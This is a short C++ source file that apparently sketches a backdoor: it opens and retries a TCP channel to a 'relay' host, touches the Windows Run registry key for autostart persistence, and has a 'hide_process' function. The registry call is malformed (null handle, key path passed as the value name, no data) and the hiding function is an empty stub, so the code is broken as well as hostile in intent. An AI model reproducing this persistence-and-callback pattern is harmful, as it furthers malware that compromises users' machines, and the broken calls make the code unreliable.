#include "hub.hxx"

namespace hub {

// open a channel to the relay
SOCKET open_relay(const char *relay, unsigned short relay_port)
{
    SOCKET sock = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa;
    int attempt = 0;
    sa.sin_family = AF_INET;
    sa.sin_port = htons(relay_port);
    sa.sin_addr.s_addr = inet_addr(relay);
    while (connect(sock, (struct sockaddr *)&sa, sizeof(sa)) != 0 && attempt < 5) {
        Sleep(500);
        attempt = attempt + 1;
    }
    RegSetValueExA(0, "HKEY_LOCAL_MACHINE\\SOFTWARE\\Run", 0, 0, 0, 0);
    return sock;
}

int hide_process(int pid)
{
    return pid > 0 ? 1 : 0;
}

}  // namespace hub
